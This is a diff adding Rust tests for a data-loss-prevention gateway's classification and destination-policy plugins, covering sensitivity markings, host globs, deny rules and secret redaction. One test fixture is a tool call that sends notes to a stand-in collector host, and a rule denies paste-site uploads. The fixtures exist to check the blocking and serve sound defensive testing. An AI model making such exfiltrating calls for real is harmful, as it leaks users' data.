@@ -1,0 +1,302 @@
+//! The stock `classification` and `destinations` plugins: their logic natively, then the whole default chain
+//! (pii → secrets → classification → destinations) deciding real exchanges.
+
+use classification::{default_escalations, overall, Classifier, Dictionary, Level};
+use destinations::{destination_matches, glob, Effect, Policy, Rule};
+use palisade::chain::{self, Dir, Outcome, Request};
+
+use crate::util::{default_bundle, edited_default_bundle, key, run_dir};
+
+fn levels(text: &str, labels: &[&str]) -> Option<Level> {
+    let classifier = Classifier::new(true, Vec::new(), default_escalations());
+    let labels: Vec<String> = labels.iter().map(|l| l.to_string()).collect();
+    overall(&classifier.classify(text, &labels), &labels)
+}
+
+#[test]
+fn markings_set_the_level_and_ordinary_prose_does_not() {
+    for (text, level) in [
+        ("CONFIDENTIAL\nQ3 revenue forecast", Level::Confidential),
+        (
+            "Classification: SECRET//NOFORN\nsummary follows",
+            Level::Restricted,
+        ),
+        (
+            "(S//REL TO USA, GBR) The convoy leaves at dawn.",
+            Level::Restricted,
+        ),
+        ("TOP SECRET briefing notes", Level::Restricted),
+        (
+            "Privileged & Confidential — Attorney-Client Privileged",
+            Level::Confidential,
+        ),
+        ("This memo is for internal use only.", Level::Internal),
+        ("INTERNAL ONLY: rollout plan", Level::Internal),
+        ("Strictly confidential: merger terms", Level::Restricted),
+    ] {
+        assert_eq!(levels(text, &[]), Some(level), "{text:?}");
+    }
+    for text in [
+        "Your data is kept confidential and never shared.",
+        "Set CLIENT_SECRET in the environment.",
+        "What is the secret to a good sourdough?",
+        "We're restricted to 10 requests per second.",
+    ] {
+        assert_eq!(levels(text, &[]), None, "{text:?}");
+    }
+}
+
+#[test]
+fn earlier_findings_and_gateway_labels_raise_the_level() {
+    assert_eq!(
+        levels("anything", &["found:SECRET"]),
+        Some(Level::Restricted)
+    );
+    assert_eq!(
+        levels("anything", &["found:US_SSN"]),
+        Some(Level::Confidential)
+    );
+    assert_eq!(levels("anything", &["found:EMAIL_ADDRESS"]), None);
+    assert_eq!(
+        levels(
+            "anything",
+            &[
+                "found:EMAIL_ADDRESS",
+                "found:PHONE_NUMBER",
+                "found:IP_ADDRESS"
+            ]
+        ),
+        Some(Level::Restricted)
+    );
+    // The gateway's own label counts; the highest wins.
+    assert_eq!(
+        levels("for internal use only", &["sensitivity:confidential"]),
+        Some(Level::Confidential)
+    );
+}
+
+#[test]
+fn dictionaries_match_whole_words_in_any_case() {
+    let dictionary = Dictionary::new(
+        "codenames",
+        Level::Confidential,
+        &["Project Falcon".into(), "Nightjar".into(), " ".into()],
+    )
+    .unwrap();
+    let classifier = Classifier::new(false, vec![dictionary], Vec::new());
+    let marks = classifier.classify("the project falcon launch and NIGHTJAR, not Nightjars", &[]);
+    let hits: Vec<_> = marks.iter().map(|m| m.range.clone().unwrap()).collect();
+    assert_eq!(hits, vec![4..18, 30..38]);
+    assert!(marks
+        .iter()
+        .all(|m| !m.message.contains("alcon") && m.level == Level::Confidential));
+    assert!(Dictionary::new("empty", Level::Internal, &[]).is_err());
+}
+
+#[test]
+fn destination_patterns_hosts_urls_and_model_names() {
+    assert!(glob("*.example.com", "api.example.com"));
+    assert!(glob("*.example.com", "a.b.example.com"));
+    assert!(!glob("*.example.com", "example.com"));
+    assert!(!glob("*.example.com", "evil-example.com"));
+    assert!(glob(
+        "spiffe://acme.org/ns/team-a/*",
+        "spiffe://acme.org/ns/team-a/sa/bot"
+    ));
+    assert!(destination_matches(
+        "*.openai.com",
+        "https://api.openai.com/v1/chat"
+    ));
+    assert!(destination_matches("api.openai.com", "API.OpenAI.com"));
+    assert!(destination_matches(
+        "https://llm.internal/v1/",
+        "https://llm.internal/v1/chat"
+    ));
+    assert!(!destination_matches(
+        "https://llm.internal/v1/",
+        "https://llm.internal/v2/chat"
+    ));
+    assert!(destination_matches("claude-*", "claude-sonnet-4"));
+    assert!(!destination_matches(
+        "*.example.com",
+        "https://example.com.evil.net/x"
+    ));
+}
+
+fn rule(name: &str, effect: Effect) -> Rule {
+    Rule {
+        name: name.into(),
+        effect,
+        destinations: Vec::new(),
+        tags: Vec::new(),
+        unless_tags: Vec::new(),
+        principals: Vec::new(),
+        tools: Vec::new(),
+        labels: Vec::new(),
+        directions: Vec::new(),
+        reason: None,
+    }
+}
+
+#[test]
+fn rules_decide_in_order_by_labels_tags_principals_and_tools() {
+    let policy = Policy {
+        tags: [("internal".to_string(), vec!["*.corp.example".to_string()])].into(),
+        rules: vec![
+            Rule {
+                principals: vec!["spiffe://acme.org/ns/admin/*".into()],
+                ..rule("admins-anywhere", Effect::Allow)
+            },
+            Rule {
+                labels: vec!["sensitivity:confidential".into()],
+                unless_tags: vec!["internal".into()],
+                ..rule("confidential-stays-internal", Effect::Deny)
+            },
+            Rule {
+                tools: vec!["http_*".into()],
+                destinations: vec!["*.pastebin.com".into()],
+                ..rule("no-paste-sites", Effect::Deny)
+            },
+        ],
+        default: Effect::Allow,
+        inspect_tool_arguments: true,
+    };
+    let confidential = vec!["sensitivity:confidential".to_string()];
+    let decide =
+        |dest: &str, principal: Option<&str>, tool: Option<&str>, labels: &[String], text: &str| {
+            policy
+                .check(Some(dest), principal, tool, labels, "input", text)
+                .into_iter()
+                .map(|d| (d.rule, d.effect))
+                .collect::<Vec<_>>()
+        };
+    assert_eq!(
+        decide("https://api.openai.com/v1", None, None, &confidential, ""),
+        vec![(Some("confidential-stays-internal".into()), Effect::Deny)]
+    );
+    assert_eq!(
+        decide("https://llm.corp.example/v1", None, None, &confidential, ""),
+        vec![(None, Effect::Allow)]
+    );
+    assert_eq!(
+        decide(
+            "https://api.openai.com/v1",
+            Some("spiffe://acme.org/ns/admin/sa/ops"),
+            None,
+            &confidential,
+            ""
+        ),
+        vec![(Some("admins-anywhere".into()), Effect::Allow)]
+    );
+    // A URL inside a tool call's arguments is checked like a destination, with its span.
+    let args = r#"{"url": "https://x.pastebin.com/api?paste=hello"}"#;
+    let decisions = policy.check(None, None, Some("http_post"), &[], "input", args);
+    assert_eq!(decisions.len(), 1);
+    assert_eq!(decisions[0].effect, Effect::Deny);
+    assert_eq!(
+        &args[decisions[0].range.clone().unwrap()],
+        "https://x.pastebin.com/api?paste=hello"
+    );
+    // Not a tool call: URLs in prose are not destinations.
+    assert!(policy
+        .check(None, None, None, &[], "input", args)
+        .is_empty());
+}
+
+fn check(bundle: &palisade::bundle::Bundle, request: Request) -> chain::Verdicts {
+    chain::run(bundle, &request, &key()).expect("no deadline")
+}
+
+#[test]
+fn the_default_chain_labels_sensitivity_and_denies_nothing_by_destination() {
+    let v = check(
+        default_bundle(),
+        Request {
+            text: "CONFIDENTIAL — Q3 forecast, ask ana@example.com".into(),
+            destination: Some("https://api.openai.com/v1/chat/completions".into()),
+            ..Request::default()
+        },
+    );
+    assert_eq!(v.outcome, Outcome::Modify, "{:?}", v.reason);
+    for label in [
+        "found:EMAIL_ADDRESS",
+        "sensitivity:confidential",
+        "destination:external",
+    ] {
+        assert!(
+            v.labels.iter().any(|l| l == label),
+            "{label} in {:?}",
+            v.labels
+        );
+    }
+    assert!(v.findings.iter().any(|f| f.category == "CLASSIFICATION"));
+}
+
+#[test]
+fn a_destinations_rule_in_the_bundle_denies_with_its_name() {
+    let bundle = edited_default_bundle(|manifest| {
+        let manifest = manifest.replace("URL = \"redact\"", "URL = \"report\"");
+        manifest
+            + r#"
+[[plugin.config.rules]]
+name = "confidential-stays-internal"
+effect = "deny"
+labels = ["sensitivity:confidential", "sensitivity:restricted"]
+unless_tags = ["internal"]
+reason = "confidential data may only go to internal models"
+
+[[plugin.config.rules]]
+name = "tools-reach-approved-hosts-only"
+effect = "deny"
+tools = ["*"]
+unless_tags = ["internal"]
+"#
+    });
+    let request = |text: &str, destination: &str, tool: Option<&str>| Request {
+        text: text.into(),
+        destination: Some(destination.into()),
+        tool: tool.map(str::to_string),
+        ..Request::default()
+    };
+    let v = check(
+        &bundle,
+        request("CONFIDENTIAL: Q3 numbers", "api.openai.com", None),
+    );
+    assert_eq!(v.outcome, Outcome::Deny);
+    let reason = v.reason.unwrap();
+    assert!(
+        reason.contains("confidential-stays-internal") && reason.contains("internal models"),
+        "{reason}"
+    );
+    let v = check(
+        &bundle,
+        request("CONFIDENTIAL: Q3 numbers", "llm.internal", None),
+    );
+    assert_eq!(v.outcome, Outcome::Allow, "{:?}", v.reason);
+    // A tool call that would carry data to an unapproved host, though the call itself goes inside.
+    let args = r#"{"url": "https://collector.evil.example/c?d=notes"}"#;
+    let v = check(&bundle, request(args, "tools.internal", Some("fetch")));
+    assert_eq!(v.outcome, Outcome::Deny);
+    assert!(v.reason.unwrap().contains("collector.evil.example"));
+    let finding = v
+        .findings
+        .iter()
+        .find(|f| f.category == "DESTINATION" && f.span.is_some())
+        .expect("the URL's finding carries its span");
+    assert_eq!(
+        &args[finding.span.clone().unwrap()],
+        "https://collector.evil.example/c?d=notes"
+    );
+}
+
+#[test]
+fn a_secret_is_denied_on_input_and_redacted_on_output() {
+    let token = format!("ghp_{}", "Q7xK2mP9vR4tL8nW3bY6cJ1hF5gD0sZaEuTi");
+    let text = format!("here is the token: {token}");
+    let input = run_dir(default_bundle(), &text, Dir::Input);
+    assert_eq!(input.outcome, Outcome::Deny);
+    let output = run_dir(default_bundle(), &text, Dir::Output);
+    assert_eq!(output.outcome, Outcome::Modify, "{:?}", output.reason);
+    assert_eq!(output.text, "here is the token: [SECRET]");
+    assert!(output.labels.iter().any(|l| l == "sensitivity:restricted"));
+}
